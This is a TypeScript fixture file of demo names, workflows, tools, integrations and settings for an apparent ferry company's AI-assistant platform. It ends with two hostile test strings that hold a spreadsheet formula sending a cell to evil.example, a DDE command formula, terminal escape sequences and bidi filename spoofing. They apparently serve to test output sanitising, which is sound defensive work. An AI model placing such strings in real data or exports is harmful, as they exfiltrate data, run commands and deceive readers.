/** The names of the demo organization's things, the first ones first. */
export const ASSISTANTS: readonly string[] = [
  'Harbor Concierge',
  'Ferry Timetable',
  'Lost & Found',
  'Crew Onboarding',
  'Ticket Refunds',
  'Freight Quotes',
  'Café Orders',
  'Accessibility Guide',
  'Night Desk',
  'Invoice Questions',
  'Island Tours',
  'Kundenservice Süd',
  '客服助手',
  'مساعد الحجوزات',
  'Weather Holds',
  'Group Bookings',
  'Vehicle Check-in',
  'Loyalty Points',
  'IT Helpdesk',
  'HR Answers',
  'Harbor Pilot 🚢',
  'Claims Intake',
  'Supplier Portal',
  'Season Passes',
];

export const WORKFLOWS: readonly string[] = [
  'Refund over 200 EUR',
  'Escalate to crew lead',
  'New hire checklist',
  'Storm cancellation notice',
  'Weekly satisfaction digest',
  'Lost item claim',
  'Route question to freight desk',
  'Invoice reminder',
  'Translate and reply',
  'After-hours handover',
  'Complaint triage',
  'Booking change',
];

export const CONNECTIONS: readonly (readonly [type: string, name: string])[] = [
  ['slack', 'Slack #crew-desk'],
  ['zendesk', 'Zendesk Support'],
  ['google_drive', 'Drive: Handbooks'],
  ['notion', 'Notion: Procedures'],
  ['hubspot', 'HubSpot CRM'],
  ['stripe', 'Stripe Payments'],
  ['postgres', 'Bookings (read replica)'],
  ['whatsapp', 'WhatsApp Business'],
  ['intercom', 'Intercom Inbox'],
  ['microsoft_teams', 'Teams: Operations'],
  ['shopify', 'Souvenir Shop'],
  ['salesforce', 'Salesforce Freight'],
];

export const BROADCASTS: readonly string[] = [
  'Summer timetable',
  'Pier 4 closed on Sunday',
  'Winter discounts',
  'Crew safety week',
  'New vehicle decks',
  'Storm Ingunn: changed sailings',
  'Passenger survey',
  'Loyalty double points',
];

export const TOOLS: readonly (readonly [type: string, name: string])[] = [
  ['http', 'look_up_booking'],
  ['http', 'issue_refund'],
  ['function', 'next_departures'],
  ['http', 'create_ticket'],
  ['search', 'search_handbook'],
  ['function', 'estimate_freight'],
  ['http', 'send_sms'],
  ['function', 'check_berth'],
];

export const INTEGRATIONS: readonly (readonly [type: string, name: string])[] = [
  ['slack', 'Slack'],
  ['zendesk', 'Zendesk'],
  ['zapier', 'Zapier'],
  ['hubspot', 'HubSpot'],
  ['google_analytics', 'Google Analytics'],
  ['twilio', 'Twilio SMS'],
  ['segment', 'Segment'],
  ['webhook', 'Webhook: booking events'],
];

export const KEYS: readonly string[] = [
  'CI deploys',
  'Audit export',
  'Data warehouse',
  'Status page',
  'Load tests',
  'Mobile app',
  'Kiosk terminals',
];

export const SITES: readonly string[] = [
  'help',
  'chat',
  'crew',
  'freight',
  'booking',
  'status',
  'island-tours',
  'portal',
];

/** The suffixes of repeated names; none the first time. */
export const VARIANTS: readonly string[] = [
  '',
  ' North',
  ' Baltic',
  ' Premium',
  ' Pilot',
  ' Weekend',
  ' Staff',
  ' Islands',
  ' Partners',
  ' Spring',
  ' Autumn',
  ' v2',
  ' Oslo',
  ' Hamburg',
  ' Crew',
];

/** The settings that an update of an assistant may change. */
export const SETTINGS: readonly string[] = [
  'instructions',
  'model',
  'tone',
  'language',
  'avatar',
  'greeting',
  'knowledge',
  'handover',
  'channels',
];

/** Texts that harm a careless reader: terminal escapes, a spreadsheet formula, a reordered line. */
export const HOSTILE_NAME =
  '=HYPERLINK("https://evil.example/?x="&A1,"Refunds")\u001b[2J\u001b]0;owned\u0007\r\nroot\u202Etxt.exe';
export const HOSTILE_AGENT =
  "=cmd|' /C calc'!A0 \u001b[31m\u001b[1A\u001b[2K\u001b]8;;https://evil.example\u0007Mozilla/5.0\u001b]8;;\u0007 \u202Egnp.tnega\u202C\u2066 (\u009b6n)\u0000 \u2028 end";
